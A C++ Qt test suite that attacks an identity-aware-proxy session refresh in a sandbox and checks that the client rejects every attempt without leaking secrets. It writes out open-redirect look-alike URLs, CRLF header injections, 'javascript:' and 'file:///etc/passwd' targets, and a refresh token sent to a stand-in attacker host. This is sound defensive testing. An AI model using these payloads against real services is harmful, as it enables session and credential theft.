#include "hostile/hostile_world.h"
#include "sandbox/company_names.h"
#include "support/test_topic.h"

#include <QTest>

using namespace lanyard;
using namespace std::chrono_literals;
using namespace Qt::StringLiterals;
using sandbox::Fault;
using At = sandbox::Step;
using sandbox::kWiki;

namespace {

using Attack = std::function<void(HostileWorld &)>;
const QString kPath = QStringLiteral("/v1/gcip/resources/AB:handleRedirect");

sandbox::Hostile &wiki(HostileWorld &hostile)
{
    return hostile.world.company.resource(kWiki).hostile;
}

// The look-alikes of a host of the company's, each of which ends at the attacker's port. %1: the attacker's port.
struct Form {
    const char *name;
    QString url;
};

QList<Form> formsOf(const QString &host, const QString &idn)
{
    return {
        {"a foreign host", u"https://evil.localhost:%1"_s},
        {"the same host, another port", u"https://"_s + host + u":%1"_s},
        {"the name in front of another", u"https://"_s + host + u".evil.localhost:%1"_s},
        {"the name as user", u"https://"_s + host + u"@evil.localhost:%1"_s},
        {"the name as user and port as password", u"https://"_s + host + u":8443@evil.localhost:%1"_s},
        {"an international look-alike", u"https://"_s + idn + u":%1"_s},
        {"a trailing dot", u"https://"_s + host + u".:%1"_s},
        {"an address", u"https://127.0.0.1:%1"_s},
        {"an address in hexadecimal", u"https://0x7f.1:%1"_s},
        {"an address as one number", u"https://2130706433:%1"_s},
        {"in plain text", u"http://"_s + host + u":%1"_s},
    };
}

// A 302 of IAP's with that very text as its Location.
Fault challengeTo(const QByteArray &location)
{
    return Fault::answer(At::Challenge, 302, {},
        {{"location", location}, {"set-cookie", "GCP_IAP_XSRF_NONCE_x=1; path=/; Secure"},
            {"x-goog-iap-generated-response", "true"}})
        .forever();
}

Fault replaced(const char *field, const QString &value)
{
    Fault fault = Fault::of(At::Exchange, Fault::Kind::ReplacedField);
    fault.field = QLatin1String(field);
    fault.body = value.toUtf8();
    return fault.forever();
}

}

// A resource, a redirect server and their neighbours attack while a session is refreshed.
class HostileRefreshTest : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void cleanupTestCase();
    void attacks_data();
    void attacks();
    void seesWhatItShouldSee();

private:
    static void foreignEndpoints();
    static void foreignPages();
    static void foreignTargets();
    static void foreignWords();
    static void redirections();
    static void row(const QString &name, const QString &probe, const Attack &attack, Reason reason)
    {
        QTest::newRow(qPrintable(name)) << probe << attack << reason;
    }

    std::unique_ptr<HostileWorld> m_hostile;
    int m_reachable = 0;
};

void HostileRefreshTest::initTestCase()
{
    m_hostile = std::make_unique<HostileWorld>();
    m_hostile->world.keepOnly({kWiki});
    QVERIFY(m_hostile->signIn(kWiki));
}

void HostileRefreshTest::cleanupTestCase()
{
    m_hostile->print("refresh");
    printf("  %d attacks, %d of them at places that the client can reach\n", m_hostile->attacks(), m_reachable);
    QVERIFY(m_reachable > 20);
    m_hostile.reset();
}

void HostileRefreshTest::foreignEndpoints()
{
    for (const Form &form : formsOf(u"iap.acme.localhost"_s, u"xn--ip-7kc.acme.localhost"_s)) {
        const Attack attack = [url = form.url](HostileWorld &hostile) {
            wiki(hostile).redirectUri = QUrl(url.arg(hostile.attacker.port()) + kPath);
        };
        row(u"redirect_uri: "_s + QLatin1String(form.name), form.url, attack, Reason::UntrustedRedirect);
    }
    const auto named = [](const char *name, const QByteArray &uri, Reason reason) {
        const Attack attack = [uri](HostileWorld &hostile) {
            QByteArray location = hostile.locationOf(kWiki);
            const qsizetype from = location.indexOf("&redirect_uri=");
            const qsizetype to = location.indexOf("&state=");
            const QByteArray port = QByteArray::number(hostile.attacker.port());
            const QByteArray honest = hostile.world.company.iapHostPort().toLatin1();
            location.replace(
                from, to - from, "&redirect_uri=" + QByteArray(uri).replace("%1", port).replace("%2", honest));
            hostile.clear();
            hostile.world.company.inject(challengeTo(location));
        };
        row(u"redirect_uri: "_s + QLatin1String(name), QString(), attack, reason);
    };
    const QByteArray path = kPath.toLatin1();
    named("a backslash", "https://%2\\@evil.localhost:%1" + path, Reason::IapUnavailable);
    named("a line break in the name", "https://evil.localhost:%1%0d%0aX:%20y" + path, Reason::IapUnavailable);
    named("a script", "javascript:alert(1)//" + path, Reason::UntrustedRedirect);
    named("the right host, another path", "https://%2/v1/evil", Reason::UntrustedRedirect);
    named("the right host, a way out", "https://%2/v1/gcip/resources/..%252f..%252fevil:handleRedirect",
        Reason::UntrustedRedirect);
    named("twice, whoever comes first counts", "https://%2" + path + "&redirect_uri=https://evil.localhost:%1" + path,
        Reason::IapUnavailable);
}

void HostileRefreshTest::foreignPages()
{
    for (const Form &form : formsOf(u"login.acme.localhost"_s, u"xn--lgin-55d.acme.localhost"_s)) {
        const Attack attack = [url = form.url](HostileWorld &hostile) {
            wiki(hostile).authPage = QUrl(url.arg(hostile.attacker.port()) + u'/');
        };
        row(u"auth page: "_s + QLatin1String(form.name), form.url, attack, Reason::UntrustedRedirect);
    }
    row(
        u"apiKey of another project"_s, {}, [](HostileWorld &hostile) { wiki(hostile).apiKey = u"AIzaForeign"_s; },
        Reason::UntrustedRedirect);
    row(
        u"apiKey with a line break"_s, {},
        [](HostileWorld &hostile) { wiki(hostile).apiKey = u"AIza%0D%0AHost:%20evil"_s; }, Reason::IapUnavailable);
    row(
        u"another tenant"_s, {}, [](HostileWorld &hostile) { wiki(hostile).tenant = u"acme-emea-k3x9q"_s; },
        Reason::TenantNotAllowed);
    row(
        u"its session is somebody else's"_s, {},
        [](HostileWorld &hostile) { wiki(hostile).identityUid = u"stranger"_s; }, Reason::UntrustedRedirect);
}

void HostileRefreshTest::foreignTargets()
{
    for (const Form &form : formsOf(u"wiki.acme.localhost"_s, u"xn--ip-7kc.acme.localhost"_s)) {
        const Attack attack = [url = form.url](HostileWorld &hostile) {
            hostile.world.company.inject(replaced("targetUri", url.arg(hostile.attacker.port()) + u"/?x=1"_s));
        };
        row(u"targetUri: "_s + QLatin1String(form.name), form.url, attack, Reason::UntrustedRedirect);
    }
    const auto named = [](const char *name, const QString &uri, Reason reason) {
        row(
            u"targetUri: "_s + QLatin1String(name), {},
            [uri](HostileWorld &hostile) { hostile.world.company.inject(replaced("targetUri", uri)); }, reason);
    };
    row(
        u"targetUri: another resource of the company"_s, {},
        [](HostileWorld &hostile) {
            const QUrl payroll = hostile.world.company.resourceUrl(u"payroll"_s);
            hostile.world.company.inject(
                replaced("targetUri", payroll.toString() + u"?gcp-iap-mode=GCIP_AUTHENTICATING"_s));
        },
        Reason::UntrustedRedirect);
    named("a script", u"javascript:alert(1)"_s, Reason::UntrustedRedirect);
    named("a page in itself", u"data:text/html,hello"_s, Reason::UntrustedRedirect);
    named("a file", u"file:///etc/passwd"_s, Reason::UntrustedRedirect);
    named("relative", u"/?x=1"_s, Reason::UntrustedRedirect);
}

void HostileRefreshTest::foreignWords()
{
    const auto says = [](const char *name, const Fault &fault, Reason reason) {
        row(
            QLatin1String(name), {}, [fault](HostileWorld &hostile) { hostile.world.company.inject(fault); }, reason);
    };
    says("originalUri is a script", replaced("originalUri", u"javascript:alert(document.cookie)"_s), Reason::Ok);
    says("originalUri is the attacker's", replaced("originalUri", u"https://evil.localhost/"_s), Reason::Ok);
    says("redirectToken with a header in it", replaced("redirectToken", u"x\r\nHost: evil.localhost"_s),
        Reason::IapUnavailable);
    row(
        u"cookie for another site"_s, {},
        [](HostileWorld &hostile) { wiki(hostile).cookieDomain = u"evil.localhost"_s; }, Reason::IapUnavailable);
    row(
        u"cookie for a neighbour"_s, {},
        [](HostileWorld &hostile) { wiki(hostile).cookieDomain = u"payroll.acme.localhost"_s; },
        Reason::IapUnavailable);
    row(
        u"a bomb of cookies before the session"_s, {}, [](HostileWorld &hostile) { wiki(hostile).cookieBomb = 60; },
        Reason::Ok);
    const Attack replay = [](HostileWorld &hostile) {
        const QByteArray location = hostile.locationOf(kWiki);
        HttpClient other(hostile.world.policy.certificateAuthorities);
        hostile.world.company.inject(challengeTo(location).times(1));
        QCoro::waitFor(hostile.world.sessions->refresh(kWiki)); // its state is used now
        hostile.clear();
        hostile.world.company.inject(challengeTo(location));
    };
    row(u"a challenge once more"_s, {}, replay, Reason::IapUnavailable);
    const Attack relay = [](HostileWorld &hostile) {
        hostile.world.company.resource(u"payroll"_s).tenants.clear(); // the same project and tenant as wiki's
        const QByteArray location = hostile.locationOf(u"payroll"_s);
        hostile.clear();
        hostile.world.company.inject(challengeTo(location).on(u"wiki.acme.localhost"_s));
    };
    row(u"the challenge of another resource"_s, {}, relay, Reason::UntrustedRedirect);
}

void HostileRefreshTest::redirections()
{
    const auto sendsOn = [](const char *name, At step, Reason reason) {
        const Attack attack = [step](HostileWorld &hostile) {
            const QString to = hostile.attacker.at(u"evil.localhost"_s) + u"/caught"_s;
            hostile.world.company.inject(Fault::redirect(step, to.toLatin1()).forever());
        };
        row(u"307 to the attacker: "_s + QLatin1String(name), u"https://evil.localhost:%1"_s, attack, reason);
    };
    sendsOn("of the refresh token", At::Token, Reason::CaptivePortal);
    sendsOn("instead of a challenge", At::Challenge, Reason::CaptivePortal);
    sendsOn("of the ID token", At::Exchange, Reason::CaptivePortal);
    sendsOn("of the redirect token", At::TargetUri, Reason::CaptivePortal);
    sendsOn("of the session", At::Identity, Reason::Ok); // the app's own redirect, which is not followed
}

void HostileRefreshTest::attacks_data()
{
    QTest::addColumn<QString>("probe");
    QTest::addColumn<Attack>("attack");
    QTest::addColumn<Reason>("reason");
    foreignEndpoints();
    foreignPages();
    foreignTargets();
    foreignWords();
    redirections();
}

void HostileRefreshTest::attacks()
{
    QFETCH(QString, probe);
    QFETCH(Attack, attack);
    QFETCH(Reason, reason);
    World &world = m_hostile->world;
    m_hostile->clear();
    if (!probe.isEmpty() && m_hostile->reaches(probe.arg(m_hostile->attacker.port())))
        ++m_reachable;
    world.advance(150s); // a new ID token, and restarts are allowed again
    attack(*m_hostile);
    const QByteArray before = world.cookieHeader(kWiki);
    const auto outcome = world.refresh(kWiki);
    QCOMPARE(code(outcome ? Reason::Ok : outcome.error().reason), code(reason));

    const QStringList leaks = m_hostile->leaks();
    m_hostile->note(QLatin1String(QTest::currentDataTag()), leaks);
    QCOMPARE(leaks, QStringList());
    QVERIFY2(m_hostile->attacker.received.isEmpty(), qPrintable(m_hostile->loot()));
    QCOMPARE(world.view(kWiki).state, State::Active);
    QCOMPARE(world.cookieHeader(kWiki) == before, !outcome); // the old session stays, or a new one came
    QVERIFY(world.windows.size() == 1);

    m_hostile->clear();
    world.advance(150s);
    const auto mended = world.refresh(kWiki);
    QVERIFY2(mended, mended ? "" : qPrintable(mended.error().detail));
    QCOMPARE(world.email(kWiki), u"kim@example.org"_s);
    QCOMPARE(m_hostile->leaks(), QStringList());
}

// The search itself: it finds a secret that is sent where it must not be.
void HostileRefreshTest::seesWhatItShouldSee()
{
    World &world = m_hostile->world;
    m_hostile->clear();
    HttpClient fool(world.policy.certificateAuthorities);
    HttpRequest request;
    const QString token = world.company.issueRefreshToken(u"kim@example.org"_s);
    request.url = QUrl(m_hostile->attacker.at(u"evil.localhost"_s) + u"/?t="_s + token);
    QCoro::waitFor(fool.send(request));
    QCOMPARE(m_hostile->leaks(), QStringList{u"refreshToken"_s});
    m_hostile->clear();
    request.url = world.company.resourceUrl(u"payroll"_s);
    request.headers.emplaceBack("Cookie", world.cookieHeader(kWiki));
    QCoro::waitFor(fool.send(request));
    QVERIFY(m_hostile->leaks().join(u' ').startsWith(u"sessionCookie of wiki at payroll.acme.localhost"));
    m_hostile->clear();
}

LANYARD_TEST(HostileRefreshTest)
#include "hostile_refresh_test.moc"
